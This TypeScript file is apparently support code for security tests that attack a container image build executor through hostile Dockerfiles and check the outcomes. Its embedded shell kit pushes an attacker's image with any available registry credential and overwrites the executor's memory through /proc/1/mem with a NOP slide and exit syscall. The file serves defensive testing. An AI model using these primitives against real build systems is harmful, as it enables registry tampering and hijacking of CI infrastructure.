import type { HostileMode } from '../support/hostile-record.ts';
import { digestOf, type Place } from './hostile-place.ts';
import { access, inPod } from './local-cluster.ts';
import { BUSYBOX } from './product.ts';

/** What is seen of a build that was attacked. */
export interface Seen {
  readonly place: Place;
  readonly status: number;
  /** What it printed as its result. */
  readonly outcome: { readonly digest?: string } | undefined;
  /** Lines of the build, without our mark; of a flood the beginning and the end. */
  readonly log: readonly string[];
  readonly stderr: string;
  /** How many lines standard error had in all. */
  readonly lines: number;
  /** The most memory that the command line had: MiB. */
  readonly memory: number;
}

/** A Dockerfile that is after something. */
export interface Attack {
  readonly name: string;
  /** What it does, for the table. */
  readonly tries: string;
  readonly why?: string;
  /** What any pod or any Dockerfile can do by its nature: no mode is there to stop it. */
  readonly ofAnyPod?: true;
  /** Where there is something to attack; everywhere unless told. */
  readonly modes?: readonly HostileMode[];
  /** The context by path, or a folder that holds it. */
  files(place: Place): Readonly<Record<string, string | Buffer>> | string;
  options?(place: Place): readonly string[];
  /** Says by what it finds itself, and not by the attack's word, whether the attack came to what it was after. */
  reached(seen: Seen): boolean | Promise<boolean>;
  /** A line of the log without which the attack was not tried at all; nothing where no code of it is to run. */
  readonly tried?: string;
}

/** What a script prints right before its attack. */
export const TRIED = 'now it attacks';

/** Image with busybox and crane. */
export const TOOLS = inPod(access.images.craneDebug);

/** Instructions to begin with for a script that pushes; {@link TOOLS} has its shell elsewhere and another user. */
export const FROM_TOOLS = `FROM ${TOOLS}\nSHELL ["/busybox/sh", "-c"]\nUSER root\n`;

/**
 * What scripts use. `behind SCRIPT` leaves a process that goes on after the step, whose process group the executor kills. `push NAME` pushes the attacker's image with whatever credential is there. `end_executor` ends the running
 * executor with status 0: every page of its code becomes one slide to exit_group(0), which its next thread to wake takes.
 */
const KIT = `export PATH=$PATH:/busybox:/ko-app DOCKER_CONFIG=/kaniko/.docker
behind() { setsid sh -c ": > /behind; $1" 2> /dev/null & until [ -e /behind ]; do sleep 0.05; done; }
push() { crane push --insecure /hostile/forged "$1" 2>&1 | tail -n 1; }
end_executor() {
  start=$(sed -n '1s/-.*//p' /proc/1/maps)
  { printf '\\220%.0s' $(seq 4087); printf '\\061\\377\\270\\347\\000\\000\\000\\017\\005'; } > /slide
  i=0; while [ $i -lt 12 ]; do cat /slide /slide > /slides; mv /slides /slide; i=$((i+1)); done
  dd if=/slide of=/proc/1/mem bs=4096 seek=$((0x$start / 4096 + 1)) conv=notrunc
}
`;

/** A context whose Dockerfile runs a script, with the attacker's image beside it. */
export function running(
  place: Place,
  script: string,
  { from = `FROM ${BUSYBOX}\n`, after = '' } = {},
): Record<string, string> {
  const forged = Object.entries(place.forged.files).map(([path, text]) => [`forged/${path}`, text]);
  return {
    ...Object.fromEntries(forged),
    Dockerfile: `${from}COPY . /hostile/\nRUN sh /hostile/attack.sh\n${after}`,
    'kit.sh': KIT,
    'attack.sh': `. /hostile/kit.sh\necho '${TRIED}'\n${script}`,
  };
}

/** Whether a build that succeeded tells another digest than that of the image under its tag. */
export async function lied({ place, status, outcome }: Seen): Promise<boolean> {
  return status === 0 && outcome?.digest !== (await digestOf(place.image));
}
